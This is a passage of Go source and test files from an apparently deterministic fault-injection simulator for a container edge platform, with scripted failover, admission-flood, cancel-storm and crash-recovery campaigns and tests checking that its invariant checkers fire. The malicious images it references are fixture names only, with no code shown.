			return nil, fmt.Errorf("sim: persistent scenarios cannot be wired (the HTTP harness binds to one platform instance)")
		}
		if len(sc.Federation) > 0 {
			return nil, fmt.Errorf("sim: federated scenarios cannot be persistent (membership is boot config — a rebuild would resurrect evacuated members)")
		}
		// The data directory is harness plumbing: a fresh temp dir per
		// run, never surfaced in the report, removed afterwards. The
		// KillRestart step reopens it across the simulated crash.
		dir, err := os.MkdirTemp("", "genio-sim-")
		if err != nil {
			return nil, fmt.Errorf("sim: data dir: %w", err)
		}
		defer os.RemoveAll(dir)
		w.persistDir = dir
	}
	build := func() error { return e.buildPlatform(sc, clock, w) }
	if err := build(); err != nil {
		return nil, err
	}
	defer func() { w.Platform.Close() }()
	if sc.Persist {
		w.rebuild = build
	}
	if sc.Wire {
		// Host the same platform behind the HTTP control plane and hand
		// the world an authenticated client: Wire* steps then cross the
		// full encode→HTTP→decode stack on every deployment. The listener
		// and identity are harness plumbing — nothing about them reaches
		// the report, so the replay contract is untouched.
		srv := server.New(w.Platform, server.Options{CA: w.Platform.CA})
		defer srv.Close()
		ts := httptest.NewServer(srv.Handler())
		defer ts.Close()
		id, err := w.Platform.CA.Issue(Subject, pki.RoleService)
		if err != nil {
			return nil, fmt.Errorf("sim: wire identity: %w", err)
		}
		w.wire = client.NewHTTP(ts.URL, client.WithIdentity(id))
		defer w.wire.Close()
	}

	rep := &Report{
		Scenario: sc.Name,
		Seed:     sc.Seed,
		Posture:  postureName(sc.Config),
		Passed:   true,
	}
	for _, inv := range e.invariants {
		rep.Invariants = append(rep.Invariants, inv.Name)
	}

	for i, step := range sc.Steps {
		out := step.Run(w)
		w.sampleWarm()
		sr := StepReport{
			Index:  i,
			Name:   step.Name,
			AtMs:   clock.NowMs(),
			Status: out.Status,
			Detail: out.Detail,
		}
		for _, inv := range e.invariants {
			for _, v := range inv.Check(w) {
				sr.Violations = append(sr.Violations, inv.Name+": "+v)
			}
		}
		// Verdict flips observed by the deploy injectors must surface even
		// under a custom invariant set that omits AdmissionDeterminism
		// (whose Check drains them first when present).
		for _, v := range w.violations {
			sr.Violations = append(sr.Violations, "admission-determinism: "+v)
		}
		w.violations = nil
		rep.Violations += len(sr.Violations)
		if len(sr.Violations) > 0 {
			rep.Passed = false
		}
		rep.Steps = append(rep.Steps, sr)
	}

	w.Platform.Flush()
	// Fold counters and inventory across every member cluster — identical
	// to the pre-federation numbers when only the default cluster exists
	// (clusters come back sorted by name, so the node list stays
	// deterministic).
	var admitted, rejected, workloads int
	liveNodes := []string{}
	for _, c := range w.Clusters() {
		a, r := c.Counters()
		admitted += a
		rejected += r
		liveNodes = append(liveNodes, c.Nodes()...)
		workloads += len(c.Workloads())
	}
	// Per-topic published tallies: deterministic under the Block policy
	// (nothing is ever dropped), so they join the replay contract. In a
	// persistent scenario these (and the admitted/rejected counters) cover
	// the final platform incarnation only — spine counters are process
	// state, deliberately not persisted — which stays deterministic
	// because the crash point is itself scripted.
	eventCounts := make(map[string]uint64)
	for topic, ts := range w.Platform.Metrics() {
		if ts.Published+ts.Dropped+ts.Filtered > 0 {
			eventCounts[string(topic)] = ts.Published
		}
	}
	w.sampleWarm()
	rep.Final = FinalState{
		VirtualMs: clock.NowMs(),
		LiveNodes: liveNodes,
		Workloads: workloads,
		Admitted:  admitted,
		Rejected:  rejected,
		Incidents: w.Platform.IncidentCounts(),
		Events:    eventCounts,
	}
	if w.warmTotal != (warmpool.Counters{}) {
		// Cumulative across KillRestart rebuilds (per-incarnation pool
		// counters reset with the platform; the report wants run totals).
		warm := w.warmTotal
		rep.Final.WarmSlots = &warm
	}
	return rep, nil
}

// buildPlatform constructs the platform (persistent scenarios attach a
// WAL store over the world's data directory, recovering whatever it
// holds), installs the engine's witnesses and the cancel gate, and seeds
// the world fixture. It runs once per ordinary scenario and once more
// per KillRestart in persistent ones — everything platform-bound
// (subscriptions, admission hooks, the registry fixture) must be rebuilt
// here, and everything process-independent (the clock, the seeded Rand,
// the world's book-keeping) must NOT be touched.
func (e *Engine) buildPlatform(sc Scenario, clock *Clock, w *World) error {
	opts := []core.Option{core.WithClock(clock.Source())}
	if len(sc.Federation) > 0 {
		members := make([]core.FederationMember, len(sc.Federation))
		for i, m := range sc.Federation {
			members[i] = core.FederationMember{Name: m.Name, Region: m.Region}
		}
		opts = append(opts, core.WithFederation(members...))
	}
	if w.persistDir != "" {
		store, err := persist.OpenWAL(w.persistDir)
		if err != nil {
			return fmt.Errorf("sim: open wal: %w", err)
		}
		// A tight cadence so campaigns exercise snapshot compaction, not
		// just log replay.
		opts = append(opts, core.WithStore(store), core.WithSnapshotEvery(16))
	}
	p, err := core.New(sc.Config, opts...)
	if err != nil {
		return fmt.Errorf("sim: platform: %w", err)
	}
	w.Platform = p
	// Residency pins are boot configuration, like membership: re-applied
	// on every rebuild so a KillRestart cannot silently widen a tenant's
	// placement domain.
	for _, pin := range sc.Pins {
		if err := p.PinTenant(pin.Tenant, pin.Region); err != nil {
			return fmt.Errorf("sim: pin %s=%s: %w", pin.Tenant, pin.Region, err)
		}
	}
	// The invariants watch the platform the way an external consumer
	// would: through a spine subscription, not by polling snapshots.
	if _, err := p.Subscribe("sim-incident-witness", []events.Topic{events.TopicIncident},
		func(b []events.Event) { w.seenIncidents.Add(int64(len(b))) }); err != nil {
		return fmt.Errorf("sim: incident witness: %w", err)
	}
	// The lifecycle witness feeds the exactly-one-terminal-event ledger
	// the cancel-storm invariants audit.
	if _, err := p.Subscribe("sim-lifecycle-witness", []events.Topic{events.TopicDeployLifecycle},
		func(b []events.Event) {
			for _, ev := range b {
				if le, ok := ev.Payload.(core.LifecycleEvent); ok && le.State.Terminal() {
					w.countTerminal(le.Workload)
				}
			}
		}); err != nil {
		return fmt.Errorf("sim: lifecycle witness: %w", err)
	}
	// The cancel gate: deployments armed via markCancelTarget are held
	// open inside the admission fan-out until their context dies, so a
	// scripted cancellation deterministically lands mid-scan. Unarmed
	// deployments pass straight through.
	p.Cluster.RegisterAdmissionCtx("sim-cancel-gate",
		func(ctx context.Context, spec orchestrator.WorkloadSpec, _ *container.Image) error {
			if !w.isCancelTarget(spec.Name) {
				return nil
			}
			<-ctx.Done()
			return ctx.Err()
		})
	if e.firehose != nil {
		var mu sync.Mutex
		if _, err := p.Subscribe("sim-firehose", nil, func(b []events.Event) {
			mu.Lock()
			defer mu.Unlock()
			for _, ev := range b {
				js, err := json.Marshal(ev)
				if err != nil {
					continue
				}
				fmt.Fprintf(e.firehose, "%s\n", js)
			}
		}); err != nil {
			return fmt.Errorf("sim: firehose: %w", err)
		}
	}
	if err := seedWorld(w); err != nil {
		return fmt.Errorf("sim: seed world: %w", err)
	}
	return nil
}

// seedWorld populates the registry with the fixture image set, signs the
// signed subset, and grants the simulation subject deploy rights. Across
// a KillRestart the publisher is reused: the fixture images are
// content-addressed, so re-pushing the identical set reproduces the
// digests the recovered admission-verdict cache was keyed by.
func seedWorld(w *World) error {
	pub := w.publisher
	if pub == nil {
		var err error
		pub, err = container.NewPublisher(PublisherName)
		if err != nil {
			return err
		}
		w.publisher = pub
	}
	reg := w.Platform.Registry
	reg.TrustPublisher(PublisherName, pub.PublicKey())
	for _, img := range []*container.Image{
		container.AnalyticsImage(),
		container.IoTGatewayImage(),
		container.MLInferenceImage(),
		container.CryptominerImage(),
	} {
		sig := pub.Sign(img)
		reg.Push(img, &sig)
	}
	reg.Push(container.BackdoorImage(), nil) // unsigned: must fail verified pulls

	w.Platform.RBAC.SetRole(rbac.Role{Name: "sim-admin", Permissions: []rbac.Permission{
		{Verb: "*", Resource: "*", Namespace: "*"},
	}})
	return w.Platform.RBAC.Bind(Subject, "sim-admin")
}

func postureName(cfg core.Config) string {
	switch cfg {
	case core.SecureConfig():
		return "secure"
	case core.LegacyConfig():
		return "legacy"
	default:
		return "custom"
	}
}
