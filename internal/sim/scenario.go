package sim

import (
	"encoding/json"
	"fmt"
	"math/rand"
	"sort"
	"sync"
	"sync/atomic"

	"genio/api/client"
	"genio/internal/container"
	"genio/internal/core"
	"genio/internal/orchestrator"
	"genio/internal/orchestrator/warmpool"
)

// Scenario is a named, fully scripted fault campaign: a platform posture
// plus an ordered list of steps. Scenarios are built by the campaign
// generators in campaigns.go from a seed, so (seed, name) replays the
// identical run — steps, verdicts, timeline and all.
type Scenario struct {
	Name   string
	Seed   int64
	Config core.Config
	Steps  []Step
	// Wire hosts the platform behind an HTTP control plane (genio/api/server
	// on an httptest listener) and hands the world an authenticated HTTP
	// client: Wire* steps then drive deployments through the full wire
	// stack — encode, HTTP, decode — instead of in-process calls. The
	// report contract is unchanged: the wire must not perturb outcomes.
	Wire bool
	// Persist backs the platform with a WAL store in a temp data
	// directory, enabling the KillRestart step: the platform is crashed
	// (flush-only close, no shutdown snapshot) and rebuilt from the
	// directory mid-run. The directory is harness plumbing — never in the
	// report — so the byte-identical replay contract is unchanged.
	// Mutually exclusive with Wire.
	Persist bool
	// Federation, when non-empty, boots the platform in federation mode
	// over the named member clusters (the first adopts the default
	// cluster) — deploys then route region-filter → consistent-hash ring
	// → per-cluster scheduler, and the EvacuateClusterStep injector
	// becomes meaningful. Membership lives on the Scenario, not the
	// Config, so Config stays comparable (postureName relies on that).
	Federation []FedMember
	// Pins are hard tenant→region residency pins applied at boot (and
	// re-applied across KillRestart rebuilds). Requires Federation.
	Pins []TenantPin
}

// FedMember names one federation member cluster of a scenario.
type FedMember struct {
	Name   string
	Region string
}

// TenantPin pins one tenant's workloads to a region for a scenario.
type TenantPin struct {
	Tenant string
	Region string
}

// Step is one scripted action against the world.
type Step struct {
	Name string
	Run  Action
}

// Action mutates the world and reports what happened. Returning an
// Outcome rather than an error keeps faults first-class: a rejected
// deployment or a failed node is an expected observation, not a test
// failure — only invariant violations fail a run.
type Action func(w *World) Outcome

// Outcome is a step's observable result, recorded verbatim in the report.
type Outcome struct {
	Status string // ok | admitted | denied | evicted | error | ...
	Detail string
}

func okf(format string, args ...any) Outcome {
	return Outcome{Status: "ok", Detail: fmt.Sprintf(format, args...)}
}

// World is the mutable state steps act on: the real platform under test
// plus the simulator's own book-keeping, which the invariant checkers
// compare against the platform's reported state after every step.
type World struct {
	Platform *core.Platform
	Clock    *Clock
	Rand     *rand.Rand

	// Live is the scripted expectation of which edge nodes are up.
	Live map[string]bool
	// Cordoned maps a node to the virtual time its current cordon was
	// applied (scripted expectation, mirrored by the cordon/drain
	// injectors). The placement-policy invariant uses it: no workload
	// may carry a placement timestamp at or after its node's cordon.
	Cordoned map[string]int64
	// policies maps workload name -> requested PlacementPolicy ("" =
	// cluster default); the placement-policy invariant checks the
	// cluster's recorded strategy against it.
	policies map[string]string
	// Quotas mirrors explicitly-set tenant quotas for the
	// oversubscription invariant.
	Quotas map[string]orchestrator.Resources
	// verdicts maps image ref -> first observed admission verdict class,
	// for the determinism invariant.
	verdicts map[string]string
	// violations accumulates determinism violations detected inside
	// steps; the admission-determinism invariant drains it.
	violations []string
	// incidentTotal is the last observed incident count (monotonicity).
	incidentTotal int
	// seenIncidents counts incident events delivered to the simulator's
	// own spine subscription — the invariants observe the platform the
	// way an external SIEM would, instead of polling snapshots, and the
	// count must track the materialised log exactly.
	seenIncidents atomic.Int64
	// offeredEvents tallies, per topic, the publishes the script itself
	// offered through PublishEvent (steps run sequentially, so a plain
	// map suffices). The drop-accounting invariant uses it as a floor:
	// Published+Dropped+Filtered on a topic can never fall below what
	// the script alone offered, or an event vanished uncounted.
	offeredEvents map[string]uint64
	// publisher signs images pushed by registry-recovery injectors.
	publisher *container.Publisher

	// cancelMu guards cancelTargets, which names the deployments the
	// sim-cancel-gate admission controller must hold open until their
	// context is cancelled — the seam that makes cancellation racing
	// admission deterministic (the cancel always lands mid-scan).
	cancelMu      sync.Mutex
	cancelTargets map[string]bool
	// cancelled records deployments whose future terminated cancelled;
	// the cancelled-never-placed invariant audits the cluster against it.
	cancelled map[string]bool
	// asyncDone records async deployments the script has seen reach a
	// terminal state; the lifecycle-ledger invariant demands exactly one
	// terminal deploy.lifecycle event for each.
	asyncDone map[string]bool
	// lifeMu guards terminalSeen, the per-workload terminal-event counts
	// observed by the engine's deploy.lifecycle subscription (writes
	// arrive from spine shard goroutines).
	lifeMu       sync.Mutex
	terminalSeen map[string]int

	// wire is the authenticated HTTP client of a Scenario.Wire run (nil
	// otherwise); Wire* steps drive the platform through it.
	wire client.Interface

	// persistDir is the WAL data directory of a Scenario.Persist run;
	// rebuild crashes aside the current platform and constructs a fresh
	// one recovering from that directory (set by Engine.Run, used by the
	// KillRestart step, nil on non-persistent runs).
	persistDir string
	rebuild    func() error
	// recoveryDiffs accumulates state divergences the KillRestart step
	// observed across a crash/recovery; the recovery-exact invariant
	// drains it.
	recoveryDiffs []string

	// warmPrev is the last warm-pool counter sample from the current
	// platform incarnation; warmTotal accumulates the deltas across
	// KillRestart rebuilds (the pool itself deliberately restarts cold,
	// so per-incarnation counters reset — the report wants the run's
	// cumulative totals).
	warmPrev  warmpool.Counters
	warmTotal warmpool.Counters

	nodeSeq int
	wlSeq   int
	onuSeq  int
}

// sampleWarm folds the platform's warm-pool counters into the world's
// cumulative totals. Counters are monotonic within one platform
// incarnation; any decrease means a KillRestart rebuilt the platform
// (pool restarts cold), so the new sample counts from zero.
func (w *World) sampleWarm() {
	cur := w.Platform.Cluster.WarmCounters()
	prev := w.warmPrev
	if cur.Hits < prev.Hits || cur.Misses < prev.Misses ||
		cur.Evicted < prev.Evicted || cur.Flushed < prev.Flushed {
		prev = warmpool.Counters{}
	}
	w.warmTotal.Hits += cur.Hits - prev.Hits
	w.warmTotal.Misses += cur.Misses - prev.Misses
	w.warmTotal.Evicted += cur.Evicted - prev.Evicted
	w.warmTotal.Flushed += cur.Flushed - prev.Flushed
	w.warmPrev = cur
}

// stateFingerprint renders the durable control-plane state — cluster
// export plus the incident ledger — as one deterministic string. The
// KillRestart step compares it across the crash: recovery must reproduce
// it byte for byte.
func (w *World) stateFingerprint() (string, error) {
	st := w.Platform.Cluster.ExportState()
	cbuf, err := json.Marshal(st)
	if err != nil {
		return "", err
	}
	ibuf, err := json.Marshal(w.Platform.Incidents())
	if err != nil {
		return "", err
	}
	return string(cbuf) + "\n" + string(ibuf), nil
}

// markCancelTarget arms the sim-cancel-gate for one workload name.
func (w *World) markCancelTarget(name string) {
	w.cancelMu.Lock()
	w.cancelTargets[name] = true
	w.cancelMu.Unlock()
}

// clearCancelTarget disarms the gate for a name once its storm entry is
// done.
func (w *World) clearCancelTarget(name string) {
	w.cancelMu.Lock()
	delete(w.cancelTargets, name)
	w.cancelMu.Unlock()
}

// isCancelTarget reports whether the gate must hold this workload.
func (w *World) isCancelTarget(name string) bool {
	w.cancelMu.Lock()
	defer w.cancelMu.Unlock()
	return w.cancelTargets[name]
}

// countTerminal tallies one observed terminal lifecycle event (called
// from spine shard goroutines via the engine's subscription).
func (w *World) countTerminal(workload string) {
	w.lifeMu.Lock()
	w.terminalSeen[workload]++
	w.lifeMu.Unlock()
}

// terminalCount reads a workload's observed terminal-event count.
func (w *World) terminalCount(workload string) int {
	w.lifeMu.Lock()
	defer w.lifeMu.Unlock()
	return w.terminalSeen[workload]
}

// terminalOvercounts returns workloads with more than one terminal
// event, sorted.
func (w *World) terminalOvercounts() []string {
	w.lifeMu.Lock()
	defer w.lifeMu.Unlock()
	var out []string
	for name, n := range w.terminalSeen {
		if n > 1 {
			out = append(out, name)
		}
	}
	sort.Strings(out)
	return out
}

// NextNodeName returns a fresh deterministic node name.
func (w *World) NextNodeName() string {
	w.nodeSeq++
	return fmt.Sprintf("olt-%03d", w.nodeSeq)
}

// NextWorkloadName returns a fresh deterministic workload name.
func (w *World) NextWorkloadName() string {
	w.wlSeq++
	return fmt.Sprintf("wl-%03d", w.wlSeq)
}

// NextONUSerial returns a fresh deterministic ONU serial.
func (w *World) NextONUSerial() string {
	w.onuSeq++
	return fmt.Sprintf("onu-%04d", w.onuSeq)
}

// LiveNodes returns the scripted live-node set, sorted for deterministic
// random choice.
func (w *World) LiveNodes() []string {
	out := make([]string, 0, len(w.Live))
	for n, up := range w.Live {
		if up {
			out = append(out, n)
		}
	}
	sort.Strings(out)
	return out
}

// schedulableNodes returns the scripted live nodes that are not
// cordoned, sorted for deterministic random choice.
func (w *World) schedulableNodes() []string {
	var out []string
	for _, n := range w.LiveNodes() {
		if _, cordoned := w.Cordoned[n]; !cordoned {
			out = append(out, n)
		}
	}
	return out
}

// Clusters returns every orchestrator cluster the platform drives, in
// deterministic member order — just the default cluster outside
// federation mode. Cluster-state invariants iterate this so the same
// checks cover single-cluster and federated scenarios.
func (w *World) Clusters() []*orchestrator.Cluster {
	members := w.Platform.Clusters()
	out := make([]*orchestrator.Cluster, 0, len(members))
	for _, m := range members {
		if c, err := w.Platform.ClusterByName(m.Name); err == nil {
			out = append(out, c)
		}
	}
	return out
}

// clusterOf returns the cluster currently hosting the named node,
// falling back to the default cluster (whose error the caller then
// observes) when no member knows it.
func (w *World) clusterOf(node string) *orchestrator.Cluster {
	for _, c := range w.Clusters() {
		if c.HasNode(node) {
			return c
		}
	}
	return w.Platform.Cluster
}

// DeployedWorkloads returns the names of currently running workloads,
// sorted.
func (w *World) DeployedWorkloads() []string {
	ws := w.Platform.Cluster.Workloads()
	out := make([]string, 0, len(ws))
	for _, wl := range ws {
		out = append(out, wl.Spec.Name)
	}
	return out
}

// recordVerdict checks an admission verdict class against the first one
// seen for the ref. Only content-determined classes participate —
// spec-dependent rejections (quota, capacity, duplicate names, RBAC) are
// excluded by the caller.
func (w *World) recordVerdict(ref, class string) {
	if prev, ok := w.verdicts[ref]; ok {
		if prev != class {
			w.violations = append(w.violations,
				fmt.Sprintf("image %s verdict flipped: %q then %q", ref, prev, class))
		}
		return
	}
	w.verdicts[ref] = class
}
