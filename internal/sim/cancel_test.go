package sim

// Cancel-storm coverage beyond the generic determinism gates: the
// campaign must actually exercise cancellation, its invariants must be
// wired, and the harness must catch a cancelled-but-placed violation.

import (
	"strings"
	"testing"

	"genio/internal/core"
	"genio/internal/orchestrator"
)

// TestCancelStormExercisesCancellation: across seeds, the campaign
// observes cancelled deployments, and the reports carry the two new
// invariants with zero violations.
func TestCancelStormExercisesCancellation(t *testing.T) {
	for seed := int64(1); seed <= 3; seed++ {
		rep, js := runJSON(t, "cancel-storm", seed)
		if !rep.Passed {
			t.Fatalf("seed %d violated invariants:\n%s", seed, js)
		}
		cancelledSeen := false
		for _, step := range rep.Steps {
			if step.Name == "cancel-storm" && strings.Contains(step.Detail, "cancelled=") {
				cancelledSeen = true
			}
		}
		if !cancelledSeen {
			t.Fatalf("seed %d: no cancel-storm step reported a cancellation:\n%s", seed, js)
		}
		wantInv := map[string]bool{"cancelled-never-placed": false, "lifecycle-ledger-balanced": false}
		for _, inv := range rep.Invariants {
			if _, ok := wantInv[inv]; ok {
				wantInv[inv] = true
			}
		}
		for name, found := range wantInv {
			if !found {
				t.Fatalf("seed %d: invariant %s not wired", seed, name)
			}
		}
		// The lifecycle topic must appear in the final ledger.
		if rep.Final.Events["deploy.lifecycle"] == 0 {
			t.Fatalf("seed %d: no deploy.lifecycle events in final ledger:\n%s", seed, js)
		}
	}
}

// TestHarnessDetectsCancelledPlacement: if a deployment the script
// recorded as cancelled somehow exists in the cluster, the
// cancelled-never-placed invariant must fire.
func TestHarnessDetectsCancelledPlacement(t *testing.T) {
	sabotage := Step{Name: "sabotage", Run: func(w *World) Outcome {
		// Deploy normally, then lie: record it as cancelled. The checker
		// must flag the discrepancy.
		spec := orchestrator.WorkloadSpec{
			Name: w.NextWorkloadName(), Tenant: "acme", ImageRef: CleanImageRef,
			Isolation: orchestrator.IsolationSoft,
			Resources: orchestrator.Resources{CPUMilli: 100, MemoryMB: 128},
		}
		if _, err := w.Platform.Deploy(Subject, spec); err != nil {
			return Outcome{Status: "error", Detail: err.Error()}
		}
		w.cancelled[spec.Name] = true
		return okf("sabotaged %s", spec.Name)
	}}
	sc := Scenario{
		Name: "sabotage", Seed: 1, Config: core.SecureConfig(),
		Steps: []Step{
			SetQuota("acme", orchestrator.Resources{CPUMilli: 8000, MemoryMB: 16384}),
			JoinNode(orchestrator.Resources{CPUMilli: 4000, MemoryMB: 8192}),
			sabotage,
		},
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Passed {
		t.Fatal("cancelled-never-placed did not fire on a placed 'cancelled' workload")
	}
	found := false
	for _, step := range rep.Steps {
		for _, v := range step.Violations {
			if strings.Contains(v, "cancelled-never-placed") {
				found = true
			}
		}
	}
	if !found {
		t.Fatalf("expected a cancelled-never-placed violation, got %+v", rep.Steps)
	}
}
