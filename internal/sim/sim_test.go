package sim

import (
	"bytes"
	"strings"
	"testing"

	"genio/internal/core"
	"genio/internal/orchestrator"
)

func runJSON(t *testing.T, name string, seed int64) (*Report, []byte) {
	t.Helper()
	sc, err := NewCampaign(name, seed)
	if err != nil {
		t.Fatal(err)
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	js, err := rep.JSON()
	if err != nil {
		t.Fatal(err)
	}
	return rep, js
}

// TestCampaignsDeterministic is the acceptance bar: every named campaign,
// run twice from the same seed, produces a byte-identical JSON report
// with all invariants passing.
func TestCampaignsDeterministic(t *testing.T) {
	for _, name := range CampaignNames() {
		name := name
		t.Run(name, func(t *testing.T) {
			rep1, js1 := runJSON(t, name, 7)
			_, js2 := runJSON(t, name, 7)
			if !bytes.Equal(js1, js2) {
				t.Fatalf("two runs of %s seed 7 differ:\n--- run1\n%s\n--- run2\n%s", name, js1, js2)
			}
			if !rep1.Passed {
				t.Fatalf("%s violated invariants:\n%s", name, js1)
			}
			if len(rep1.Steps) < 5 {
				t.Fatalf("%s has only %d steps", name, len(rep1.Steps))
			}
		})
	}
}

// TestCampaignsAcrossSeeds explores different storms: invariants must
// hold for any seed, and different seeds must actually produce different
// runs (the seed is a real knob, not decoration).
func TestCampaignsAcrossSeeds(t *testing.T) {
	for _, name := range CampaignNames() {
		name := name
		t.Run(name, func(t *testing.T) {
			var reports [][]byte
			for seed := int64(1); seed <= 3; seed++ {
				rep, js := runJSON(t, name, seed)
				if !rep.Passed {
					t.Fatalf("%s seed %d violated invariants:\n%s", name, seed, js)
				}
				reports = append(reports, js)
			}
			if name == "incident-storm" {
				return // fully scripted structure; seeds only vary the traces
			}
			if bytes.Equal(reports[0], reports[1]) && bytes.Equal(reports[1], reports[2]) {
				t.Fatalf("%s identical across seeds 1..3", name)
			}
		})
	}
}

// TestFailoverStormExercisesEviction checks the storm actually reaches
// the interesting regime: failovers happen and the final fleet recovered.
func TestFailoverStormExercisesEviction(t *testing.T) {
	rep, js := runJSON(t, "failover-storm", 7)
	crashes := 0
	for _, s := range rep.Steps {
		if s.Name == "node-crash-random" && s.Status == "failed-over" {
			crashes++
		}
	}
	if crashes == 0 {
		t.Fatalf("no node crashes executed:\n%s", js)
	}
	if len(rep.Final.LiveNodes) == 0 {
		t.Fatalf("fleet never recovered:\n%s", js)
	}
	if rep.Final.Workloads == 0 {
		t.Fatalf("no workloads survived the storm:\n%s", js)
	}
}

// TestAdmissionFloodVerdicts checks the flood hits every verdict class:
// admitted, denied by a scanner, and rejected at signature verification.
func TestAdmissionFloodVerdicts(t *testing.T) {
	rep, js := runJSON(t, "admission-flood", 7)
	if rep.Final.Admitted == 0 || rep.Final.Rejected == 0 {
		t.Fatalf("flood did not produce both admissions (%d) and rejections (%d):\n%s",
			rep.Final.Admitted, rep.Final.Rejected, js)
	}
	if rep.Final.Incidents["admission"] == 0 {
		t.Fatalf("no admission incidents recorded:\n%s", js)
	}
	var sawTamperReject bool
	for i, s := range rep.Steps {
		if s.Name == "registry-tamper" && i+1 < len(rep.Steps) {
			if next := rep.Steps[i+1]; next.Name == "deploy" && next.Status == "pull-failed" {
				sawTamperReject = true
			}
		}
	}
	if !sawTamperReject {
		t.Fatalf("tampered signature did not fail the following deploy:\n%s", js)
	}
}

// TestDeployStormExercisesWarmPool checks the warm-pool storm reaches
// every interesting regime on every seed: warm claims (the O(1) repeat
// deploy fast path), cold misses, watermark evictions, drain flushes —
// and the cold-restart contract: the first repeat deploy after a
// kill-restart must NOT claim a warm slot, because warm slots are
// deliberately not persisted.
func TestDeployStormExercisesWarmPool(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rep, js := runJSON(t, "deploy-storm", seed)
		if !rep.Passed {
			t.Fatalf("seed %d violated invariants:\n%s", seed, js)
		}
		warm := rep.Final.WarmSlots
		if warm == nil {
			t.Fatalf("seed %d: no warm-pool activity recorded:\n%s", seed, js)
		}
		if warm.Hits < 2 || warm.Misses == 0 || warm.Evicted < 1 || warm.Flushed < 1 {
			t.Fatalf("seed %d: storm missed a warm regime: %+v\n%s", seed, *warm, js)
		}
		placedWarm := 0
		restartAt := -1
		for i, s := range rep.Steps {
			if strings.HasSuffix(s.Detail, "placed warm") {
				placedWarm++
			}
			if s.Name == "kill-restart" {
				restartAt = i
			}
		}
		if placedWarm != int(warm.Hits) {
			t.Fatalf("seed %d: %d warm placements reported but %d hits counted:\n%s",
				seed, placedWarm, warm.Hits, js)
		}
		if restartAt < 0 {
			t.Fatalf("seed %d: no kill-restart step:\n%s", seed, js)
		}
		for _, s := range rep.Steps[restartAt+1:] {
			if s.Name == "deploy" {
				if strings.HasSuffix(s.Detail, "placed warm") {
					t.Fatalf("seed %d: first deploy after kill-restart claimed a warm slot — slots leaked through recovery:\n%s", seed, js)
				}
				break
			}
		}
	}
}

// TestIncidentStormDetections checks runtime monitoring fired during the
// storm campaign.
func TestIncidentStormDetections(t *testing.T) {
	rep, js := runJSON(t, "incident-storm", 7)
	if rep.Final.Incidents["falco"] == 0 && rep.Final.Incidents["sandbox"] == 0 {
		t.Fatalf("storm raised no runtime incidents:\n%s", js)
	}
	if rep.Final.VirtualMs == 0 {
		t.Fatalf("virtual clock never advanced:\n%s", js)
	}
}

// TestHarnessDetectsViolations proves the invariant checkers are live: a
// scripted verdict flip and a script/cluster topology mismatch must fail
// the run.
func TestHarnessDetectsViolations(t *testing.T) {
	sc := Scenario{
		Name: "self-test", Seed: 1, Config: core.SecureConfig(),
		Steps: []Step{
			JoinNode(nodeCapacity),
			{Name: "verdict-flip", Run: func(w *World) Outcome {
				w.recordVerdict("img:x", "admitted")
				w.recordVerdict("img:x", "denied")
				return okf("injected flip")
			}},
			{Name: "ghost-node", Run: func(w *World) Outcome {
				// Node added behind the script's back: cluster and scenario
				// now disagree about the live set.
				w.Platform.Cluster.AddNode("ghost", nodeCapacity)
				return okf("injected ghost node")
			}},
		},
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Passed || rep.Violations < 2 {
		js, _ := rep.JSON()
		t.Fatalf("harness missed injected violations:\n%s", js)
	}
	var flip, ghost bool
	for _, s := range rep.Steps {
		for _, v := range s.Violations {
			if strings.HasPrefix(v, "admission-determinism:") {
				flip = true
			}
			if strings.HasPrefix(v, "no-dead-node-placement:") {
				ghost = true
			}
		}
	}
	if !flip || !ghost {
		t.Fatalf("expected both violation kinds, got flip=%v ghost=%v", flip, ghost)
	}
}

// TestHarnessDetectsLostNode covers the reverse topology direction: a
// node the script considers alive vanishing from the cluster.
func TestHarnessDetectsLostNode(t *testing.T) {
	sc := Scenario{
		Name: "lost-node", Seed: 1, Config: core.SecureConfig(),
		Steps: []Step{
			JoinNode(nodeCapacity),
			{Name: "silent-loss", Run: func(w *World) Outcome {
				// Node failed behind the script's back.
				if _, err := w.Platform.Cluster.FailNode("olt-001"); err != nil {
					return Outcome{Status: "error", Detail: err.Error()}
				}
				return okf("injected silent node loss")
			}},
		},
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, s := range rep.Steps {
		for _, v := range s.Violations {
			if strings.Contains(v, "cluster lost node olt-001") {
				found = true
			}
		}
	}
	if rep.Passed || !found {
		js, _ := rep.JSON()
		t.Fatalf("silent node loss not detected:\n%s", js)
	}
}

// TestVerdictFlipSurfacesWithCustomInvariants: determinism violations
// must reach the report even when the custom invariant set omits the
// AdmissionDeterminism checker.
func TestVerdictFlipSurfacesWithCustomInvariants(t *testing.T) {
	sc := Scenario{
		Name: "custom-invariants", Seed: 1, Config: core.SecureConfig(),
		Steps: []Step{
			{Name: "verdict-flip", Run: func(w *World) Outcome {
				w.recordVerdict("img:y", "admitted")
				w.recordVerdict("img:y", "denied")
				return okf("injected flip")
			}},
		},
	}
	rep, err := NewEngine([]Invariant{NoCapacityOversubscription()}).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Passed || rep.Violations != 1 {
		js, _ := rep.JSON()
		t.Fatalf("flip dropped under custom invariant set:\n%s", js)
	}
	if v := rep.Steps[0].Violations[0]; !strings.HasPrefix(v, "admission-determinism:") {
		t.Fatalf("violation mislabelled: %q", v)
	}
}

// TestQuotaInvariantUnderFlood places the oversubscription checker under
// real pressure: a tight quota and a flood far beyond it.
func TestQuotaInvariantUnderFlood(t *testing.T) {
	sc := Scenario{
		Name: "quota-pressure", Seed: 3, Config: core.SecureConfig(),
		Steps: []Step{
			JoinNode(orchestrator.Resources{CPUMilli: 32000, MemoryMB: 65536}),
			SetQuota("tight", orchestrator.Resources{CPUMilli: 1100, MemoryMB: 1100}),
			AdmissionFlood(20, "tight", smallDemand, CleanImageRef),
		},
	}
	rep, err := NewEngine(nil).Run(sc)
	if err != nil {
		t.Fatal(err)
	}
	js, _ := rep.JSON()
	if !rep.Passed {
		t.Fatalf("quota invariant violated:\n%s", js)
	}
	// 1100m quota with 500m workloads: exactly 2 fit.
	if rep.Final.Admitted != 2 {
